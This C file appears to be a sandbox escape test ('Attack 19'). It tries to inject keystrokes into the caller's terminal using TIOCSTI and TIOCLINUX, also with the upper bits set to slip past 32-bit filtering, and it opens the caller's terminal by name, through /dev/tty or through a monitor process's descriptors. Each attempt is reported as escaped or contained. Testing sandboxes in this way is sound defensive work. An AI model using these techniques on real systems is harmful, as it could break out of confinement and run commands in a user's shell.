/*
 * Attack 19 (CVE-2017-5226, CVE-2019-10063): text is put into the caller's terminal as if it had been typed:
 * TIOCSTI, TIOCLINUX, the same number plus 2^32 (the kernel looks at 32 bits only); or the terminal is opened
 * by its name or through the launcher's descriptors.
 * An escape: a call that works.
 */
#include <sys/ioctl.h>

#include "escape.h"

#define HIGH (1L << 32)

static int on_stdin(const char *what, long request, void *arg)
{
	return esc_verdict(what, esc_sys(SYS_ioctl, 0, request, arg));
}

static int way_tiocsti(void)
{
	return on_stdin("TIOCSTI", TIOCSTI, "#");
}

static int way_tiocsti_high(void)
{
	return on_stdin("TIOCSTI + 2^32", TIOCSTI | HIGH, "#");
}

static int way_tioclinux(void)
{
	char arg = 2;

	return on_stdin("TIOCLINUX", TIOCLINUX, &arg);
}

static int way_tioclinux_high(void)
{
	char arg = 2;

	return on_stdin("TIOCLINUX + 2^32", TIOCLINUX | HIGH, &arg);
}

static int way_dev_tty(void)
{
	long fd = esc_sys(SYS_open, "/dev/tty", O_RDWR);

	if (fd < 0)
		return esc_verdict("/dev/tty", fd);
	return esc_verdict("TIOCSTI", esc_sys(SYS_ioctl, fd, TIOCSTI, "#"));
}

/* What is written there appears on the caller's screen. */
static int way_by_name(void)
{
	return esc_verdict(esc_arg("tty"), esc_sys(SYS_open, esc_arg("tty"), O_RDWR | O_NOCTTY));
}

static int way_monitor_fd(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%ld/fd/0", esc_number("monitor"));
	return esc_verdict(path, esc_sys(SYS_open, path, O_RDWR | O_NOCTTY));
}

/* The terminal that stdin is: is it the caller's own? */
static int way_same_terminal(void)
{
	char path[64] = "";
	long n = esc_sys(SYS_readlink, "/proc/self/fd/0", path, sizeof(path) - 1);

	fprintf(stderr, "stdin is %s, the caller's is %s\n", n < 0 ? "?" : path, esc_arg("tty"));
	return n > 0 && !strcmp(path, esc_arg("tty")) ? ESCAPED : CONTAINED;
}

static const struct esc_way ways[] = {
        {"tiocsti", way_tiocsti},       {"tiocsti_high", way_tiocsti_high},
        {"tioclinux", way_tioclinux},   {"tioclinux_high", way_tioclinux_high},
        {"dev_tty", way_dev_tty},       {"by_name", way_by_name},
        {"monitor_fd", way_monitor_fd}, {"same_terminal", way_same_terminal},
};
ESC_MAIN(ways)
